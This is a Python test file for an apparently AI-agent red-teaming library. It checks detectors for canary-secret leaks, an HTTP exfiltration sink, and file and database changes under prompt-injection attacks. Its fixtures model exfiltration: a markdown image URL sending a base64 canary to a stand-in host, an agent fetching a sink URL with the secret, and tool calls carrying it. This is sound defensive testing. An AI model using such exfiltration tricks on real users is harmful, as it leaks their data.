"""Oracles see for themselves: canaries, a sink, files, rows."""

from __future__ import annotations

import asyncio
import base64
import sqlite3
import urllib.request
from pathlib import Path

import pytest

from rampart import (
    Attacks,
    Channel,
    EvalContext,
    EvalResult,
    ObservabilityLevel,
    Request,
    Response,
    SafetyStatus,
    SideEffect,
    ToolCall,
    Turn,
)
from rampart.core.evaluator import BaseEvaluator
from rampart.oracles import (
    CanaryLeaked,
    DatabaseState,
    ExfiltrationSink,
    FileState,
    new_canary,
)
from rampart.testing import ScriptedAdapter

CANARY = new_canary()


def fetch(url: str, data: bytes | None = None) -> None:
    urllib.request.urlopen(url, data).close()


async def look(evaluator: BaseEvaluator, *responses: Response) -> EvalResult:
    turns = [
        Turn(request=Request(prompt="p"), response=response, turn_number=number)
        for number, response in enumerate(responses)
    ]
    return await evaluator.evaluate_async(context=EvalContext(turns=turns))


# -- canaries -------------------------------------------------------------------------------


@pytest.mark.asyncio
@pytest.mark.parametrize(
    ("response", "where"),
    [
        (Response(text=f"it is {CANARY}"), "response 1, as it is"),
        (
            Response(text="", tool_calls=[ToolCall(name="post", arguments={"a": [CANARY]})]),
            "arguments of post in turn 1, as it is",
        ),
        (
            Response(text="", side_effects=[SideEffect(kind="mail", details={"to": CANARY})]),
            "side effect mail in turn 1, as it is",
        ),
        (
            Response(text=f"![x](http://e/?d={base64.b64encode(CANARY.encode()).decode()})"),
            "response 1, in base64",
        ),
    ],
)
async def test_a_canary_is_seen_leaving_by_every_channel(response: Response, where: str) -> None:
    result = await look(CanaryLeaked(CANARY), response)
    assert result.detected
    assert result.evidence == [f"canary {CANARY} left: {where}"]


@pytest.mark.asyncio
async def test_a_canary_in_pieces_over_turns_and_tools_is_seen() -> None:
    first = Response(text=f"first half {CANARY[:8]}")
    call = ToolCall(name="post", arguments={"rest": CANARY[8:]})
    result = await look(CanaryLeaked(CANARY), first, Response(text="x", tool_calls=[call]))
    assert result.evidence == [f"canary {CANARY} left: in 2 pieces"]


@pytest.mark.asyncio
async def test_what_tools_returned_is_how_it_came_in_not_how_it_left() -> None:
    read = ToolCall(name="read", arguments={"file": "a"}, result=CANARY)
    assert not (await look(CanaryLeaked(CANARY), Response(text="ok", tool_calls=[read]))).detected


@pytest.mark.asyncio
async def test_only_the_named_tools_and_channels_count() -> None:
    search = Response(text=CANARY, tool_calls=[ToolCall(name="search", arguments={"q": CANARY})])
    by_tools = CanaryLeaked(CANARY, channels=[Channel.TOOL_CALLS], tools=["send"])
    assert not (await look(by_tools, search)).detected
    assert by_tools.requires == frozenset({Channel.TOOL_CALLS})


@pytest.mark.asyncio
async def test_what_cannot_be_seen_proves_no_safety() -> None:
    agent = ScriptedAdapter("nothing", observability=ObservabilityLevel.RESPONSE_ONLY)
    attack = Attacks.xpia(trigger="go", evaluator=CanaryLeaked(CANARY))
    result = await attack.execute_async(adapter=agent)
    assert result.status is SafetyStatus.UNDETERMINED


@pytest.mark.parametrize("canary", ["short", "with space in it", "", [], ["fine12345", "x"]])
def test_a_canary_that_could_be_any_word_is_refused(canary: object) -> None:
    with pytest.raises(ValueError, match="canary"):
        CanaryLeaked(canary)  # type: ignore[arg-type]


def test_a_canary_that_is_no_text_is_refused() -> None:
    with pytest.raises(TypeError, match="must be a string"):
        CanaryLeaked([3])  # type: ignore[list-item]


# -- the sink -------------------------------------------------------------------------------


@pytest.mark.asyncio
async def test_a_sink_sees_what_arrives_whatever_the_adapter_sees() -> None:
    with ExfiltrationSink() as sink:

        def agent(request: Request) -> str:
            fetch(f"{sink.url}img?d={CANARY[::-1]}")
            return "fine"

        adapter = ScriptedAdapter(agent, observability=ObservabilityLevel.RESPONSE_ONLY)
        attack = Attacks.xpia(trigger="go", evaluator=sink.received(CANARY))
        result = await attack.execute_async(adapter=adapter)
        (request,) = sink.requests
    assert result.status is SafetyStatus.UNSAFE
    assert "the canary reversed" in result.summary
    assert request.side_effect.kind == "http_request"
    assert request.side_effect.details["path"].startswith("/img?d=")


@pytest.mark.asyncio
async def test_a_sink_that_nobody_spoke_to_proves_safety() -> None:
    with ExfiltrationSink() as sink:
        adapter = ScriptedAdapter("no", observability=ObservabilityLevel.RESPONSE_ONLY)
        attack = Attacks.xpia(trigger="go", evaluator=sink.received())
        assert (await attack.execute_async(adapter=adapter)).status is SafetyStatus.SAFE


@pytest.mark.asyncio
async def test_a_sink_puts_pieces_together_and_reads_bodies() -> None:
    with ExfiltrationSink() as sink:
        for piece in (CANARY[:6], CANARY[6:]):
            await asyncio.to_thread(fetch, sink.url, b"part " + piece.encode())
        result = await look(sink.received(CANARY), Response(text=""))
        assert (await look(sink.received(), Response(text=""))).detected
        assert not (await look(sink.received(new_canary()), Response(text=""))).detected
    assert result.evidence[0].endswith("the canary in 2 pieces")


def test_a_sink_has_an_address_only_while_it_serves() -> None:
    with pytest.raises(RuntimeError, match="inside `with`"):
        _ = ExfiltrationSink().url


# -- state ----------------------------------------------------------------------------------


@pytest.mark.asyncio
async def test_files_that_were_created_changed_or_deleted_are_seen(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    for name in ("kept", "changed", "sub/deleted"):
        (tmp_path / name).write_text(name)
    async with FileState(tmp_path) as state:
        assert not (await look(state.changed(), Response(text=""))).detected
        (tmp_path / "changed").write_text("other")
        (tmp_path / "sub/deleted").unlink()
        (tmp_path / "link").symlink_to("kept")
        result = await look(state.changed(), Response(text=""))
        assert result.evidence == ["changed: changed", "created: link", "deleted: sub/deleted"]
        assert not (await look(state.changed("*.txt"), Response(text=""))).detected
        only_new = state.changed(kinds=["created"])
        assert (await look(only_new, Response(text=""))).evidence == ["created: link"]


@pytest.mark.asyncio
async def test_rows_that_came_or_went_are_seen(tmp_path: Path) -> None:
    path = tmp_path / "data.sqlite"
    database = sqlite3.connect(path)
    database.execute('CREATE TABLE "odd ""name" (a, b)')
    database.execute("CREATE TABLE users (name)")
    database.executemany("INSERT INTO users VALUES (?)", [("ann",), ("bob",), ("bob",)])
    database.commit()
    async with DatabaseState(path) as state:
        assert not (await look(state.changed(), Response(text=""))).detected
        database.execute("DELETE FROM users WHERE name = 'ann'")
        database.execute("INSERT INTO users VALUES ('bob')")
        database.commit()
        result = await look(state.changed("users"), Response(text=""))
    database.close()
    assert result.evidence == ["deleted: users ('ann',)", "created: users ('bob',)"]


@pytest.mark.asyncio
async def test_a_state_that_was_never_remembered_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(RuntimeError, match="use `async with` first"):
        await look(FileState(tmp_path).changed(), Response(text=""))


def test_a_kind_of_change_that_is_none_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="'moved' is none of created, changed, deleted"):
        FileState(tmp_path).changed(kinds=["moved"])  # type: ignore[list-item]
